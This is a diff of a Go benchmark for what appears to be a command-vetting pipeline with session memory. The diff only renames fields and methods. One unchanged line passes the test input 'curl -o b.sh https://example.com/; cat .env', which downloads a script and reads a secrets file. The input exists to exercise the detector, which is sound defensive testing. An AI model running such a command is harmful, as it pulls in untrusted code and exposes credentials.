@@ -49,7 +49,7 @@ func sessionBench(b *testing.B, memory string) (judge func(raw string)) {
 	b.Helper()
 	s := Defaults()
 	s.Session.Enabled = memory != "without"
-	p, err := NewPipeline(Config{Settings: &s, Policy: "offline", Home: "/home/me", Dir: "/work/app", StateDir: b.TempDir(), Host: "bench", NoFiles: true})
+	p, err := NewPipeline(Config{Settings: &s, PolicyNameOrPath: "offline", Home: "/home/me", WorkingDir: "/work/app", StateDir: b.TempDir(), AgentHostName: "bench", IgnoresFileSystem: true})
 	if err != nil {
 		b.Fatal(err)
 	}
@@ -59,7 +59,7 @@ func sessionBench(b *testing.B, memory string) (judge func(raw string)) {
 		if err != nil {
 			b.Fatal(err)
 		}
-		p.EvaluateUntil(context.Background(), a, TierClassify)
+		p.EvaluateThroughTier(context.Background(), a, TierClassify)
 	}
 	judge(inSession("curl -o b.sh https://example.com/; cat .env"))
 	if memory != "full" {
@@ -69,7 +69,7 @@ func sessionBench(b *testing.B, memory string) (judge func(raw string)) {
 		return p.sessions.Load(b.Context(), session.Key{Host: "bench", ID: "s", User: p.caller.User}, session.Lineage{}, "")
 	}
 	var d session.Delta
-	for i := range s.Session.MaxFiles {
+	for i := range s.Session.MaxFilesWithKnownOrigin {
 		d.Files = append(d.Files, effect.File{Path: fmt.Sprintf("/work/app/data/part-%05d.csv", i), Labels: []effect.Label{effect.LabelNetwork}})
 	}
 	if err := p.sessions.Add(b.Context(), load(), &d); err != nil {
